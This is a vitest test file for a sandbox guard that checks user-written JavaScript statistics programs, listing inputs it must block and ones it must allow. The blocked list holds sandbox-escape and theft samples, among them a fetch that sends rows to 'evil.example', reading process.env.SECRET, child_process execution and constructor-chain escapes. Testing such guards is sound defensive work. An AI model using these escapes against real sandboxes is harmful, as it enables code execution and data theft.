import { describe, expect, it } from 'vitest';
import { checkProgramSafety } from './check-program-safety.ts';
import { PLAN_CALL } from './stats-sandbox-request.ts';
import { translateStatsQuery } from './translate-stats-query.ts';

const MALICIOUS: string[] = [
  'fetch("https://evil.example/steal?d=" + JSON.stringify(rows))',
  'process.env.SECRET',
  'require("child_process").execSync("id")',
  "globalThis.constructor.constructor('return process')()",
  "rows.constructor.constructor('return this')()",
  "[].map.constructor('return 1')()",
  'eval("1+1")',
  'new Function("return 1")()',
  'Function("return 1")()',
  "import('node:fs')",
  'import.meta',
  'this.x',
  '(function () { return arguments })()',
  'with (Math) { max(1, 2) }',
  'String.raw`x`',
  'rows.__proto__.polluted = 1',
  'Object.prototype.x = 1',
  'Object.defineProperty(rows, "x", { get() { return 1 } })',
  'Object.getPrototypeOf(rows)',
  "const k = 'constr' + 'uctor'; rows[k][k]('return 1')()",
  'const f = ss.mean; f.call(null, [1])',
  "rows['__proto__']",
  'setTimeout(() => 0, 0)',
  'WebAssembly.compile(new Uint8Array(8))',
  'Reflect.ownKeys(ss)',
  'new Proxy({}, {})',
  'ss.mean = () => 42; ss.mean([1])',
  'rows = []',
  'const rows = []; rows.length',
  'Math.random()',
  'async function f() { await 1 } f()',
  'function* g() { yield 1 } g().next()',
  'class A {} ; 1',
  '/(a+)+$/.test("aaaa")',
  'delete rows[0]',
  'const o = { get x() { return 1 } }; o.x',
  'const x = {}; x[ss.mean]()',
  'self.postMessage(1)',
  'Symbol.iterator',
  'undefinedVariable + 1',
  'debugger; 1',
  'lbl: for (;;) { break lbl }',
  'try { 1 } catch (e) { e }',
  'throw new Error("x")',
  '1n + 2n',
  'rows.map((r) => r).toString()',
  'this',
];

const BENIGN: string[] = [
  'ss.mean(rows.map((r) => r.x))',
  'const xs = []; for (const r of rows) { if (typeof r.x === "number") xs.push(r.x); } ss.median(xs)',
  'let total = 0; for (let i = 0; i < rows.length; i++) { total += rows[i].x; } total / rows.length',
  'const g = {}; for (const r of rows) { const k = String(r.region); g[k] = (g[k] || 0) + 1; } g',
  'Object.fromEntries(Object.entries({ a: 1 }).map(([k, v]) => [k, v * 2]))',
  'Math.sqrt(ss.sampleVariance(input.rows.map((r) => r.y)))',
  'const { x, ...rest } = { x: 1, y: 2 }; x + rest.y',
  'isFinite(Number("3")) ? parseFloat("3.5") : NaN',
];

describe('checkProgramSafety', () => {
  it.each(MALICIOUS)('blocks %s', (program) => {
    const r = checkProgramSafety(program);
    expect(r.safe).toBe(false);
  });

  it('blocks at least 15 malicious programs', () => {
    expect(MALICIOUS.length).toBeGreaterThanOrEqual(15);
  });

  it.each(BENIGN)('allows %s', (program) => {
    expect(checkProgramSafety(program)).toEqual({ safe: true });
  });

  it('allows every program the translator produces', () => {
    const columns = ['region', 'units', 'revenue', 'age', 'Customer Score', 'signup_date', 'constructor_id'];
    const queries = [
      'mean units',
      'median revenue by region',
      'mode of age',
      'total revenue where region = EU or age < 30',
      'how many rows',
      'count of units',
      'number of unique region',
      'min age',
      'max revenue',
      'range of age',
      'std of units',
      'population sd of units',
      'variance of units',
      'population variance of units',
      '95th percentile of revenue',
      'first quartile of age',
      'iqr of age',
      'correlation between units and revenue',
      'slope of revenue on units',
      'intercept of revenue on units',
      'regression of revenue on units',
      't-test of units against 3.5',
      'welch t-test of units between region EU and US',
      't-test of units by region',
      'average "customer score" per region where age between 20 and 40',
      'how many rows have signup_date > 2024-01-01',
      'mean constructor_id',
    ];
    for (const q of queries) {
      const t = translateStatsQuery(q, columns);
      expect(t, q).not.toBeNull();
    }
    // Every translated query makes the same fixed call into the runtime; plans travel as data.
    expect(checkProgramSafety(PLAN_CALL)).toEqual({ safe: true });
  });

  it('rejects unparsable, empty and oversized programs', () => {
    expect(checkProgramSafety('').safe).toBe(false);
    expect(checkProgramSafety('let = ;').safe).toBe(false);
    expect(checkProgramSafety('1 + '.repeat(10_000) + '1').safe).toBe(false);
  });
});
